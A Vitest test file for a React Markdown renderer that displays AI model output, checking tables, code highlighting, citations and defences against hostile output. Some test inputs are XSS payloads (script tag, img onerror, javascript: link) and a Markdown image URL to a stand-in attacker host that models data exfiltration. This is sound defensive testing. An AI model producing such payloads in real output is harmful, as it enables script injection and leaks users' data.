import { renderToStaticMarkup } from "react-dom/server";
import { beforeAll, describe, expect, it } from "vitest";
import { TooltipProvider } from "../../../../components/ui/tooltip.tsx";
import type { CitationSource } from "../../lib/sources.ts";
import { CitationProvider } from "../citations/citation-context.tsx";
import { highlighter } from "./highlighter.ts";
import { Markdown } from "./markdown.tsx";

function render(text: string, sources: CitationSource[] = []): string {
  return renderToStaticMarkup(
    <TooltipProvider>
      <CitationProvider sources={sources}>
        <Markdown text={text} />
      </CitationProvider>
    </TooltipProvider>,
  );
}

const webSource: CitationSource = {
  number: 1,
  key: "s1",
  title: "Handbook",
  documentId: null,
  href: "https://example.com/handbook",
  passage: "Employees get 30 days.",
};

describe("Markdown (model output)", () => {
  // In the app the highlighter's chunk arrives with the first code block; here it is loaded first.
  beforeAll(() => highlighter.load());

  it("renders GFM tables and highlighted code", () => {
    const html = render("| a | b |\n|---|---|\n| 1 | 2 |\n\n```ts\nconst x = 1;\n```");
    expect(html).toContain("<table");
    expect(html).toContain("<td");
    expect(html).toContain("hljs-keyword");
    expect(html).toContain("Copy code");
  });

  it("never renders raw HTML from the model", () => {
    const html = render(
      'Hi <img src="https://evil.example/x.png" onerror="alert(1)"><script>alert(2)</script>',
    );
    expect(html).not.toContain("<script");
    expect(html).not.toContain("onerror");
    expect(html).not.toContain("evil.example");
  });

  it("does not load Markdown images; it offers a link instead", () => {
    const html = render("![secret](https://evil.example/leak.png?data=abc)");
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('data-testid="blocked-image"');
    expect(html).toContain('href="https://evil.example/leak.png?data=abc"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).toContain("evil.example");
  });

  it("opens web links safely and drops script links", () => {
    const html = render(
      "[docs](https://example.com/a) and [bad](javascript:alert(1)) and [rel](/api/x)",
    );
    expect(html).toContain('href="https://example.com/a"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(html).not.toContain("javascript:");
    expect(html).not.toContain('href="/api/x"');
    expect(html).toContain("bad");
  });

  it("turns [n] into references to the answer's sources, and leaves unknown numbers as text", () => {
    const html = render("Thirty days [1]. See also [2].", [webSource]);
    expect(html).toContain('data-testid="citation"');
    expect(html).toContain('aria-label="Source 1: Handbook"');
    expect(html).toContain('href="https://example.com/handbook"');
    expect(html).toContain("[2]");
  });

  it("leaves citation-like text in code alone", () => {
    const html = render("`arr[1]` and\n\n```\nx[2]\n```", [webSource]);
    expect(html).not.toContain('data-testid="citation"');
  });
});
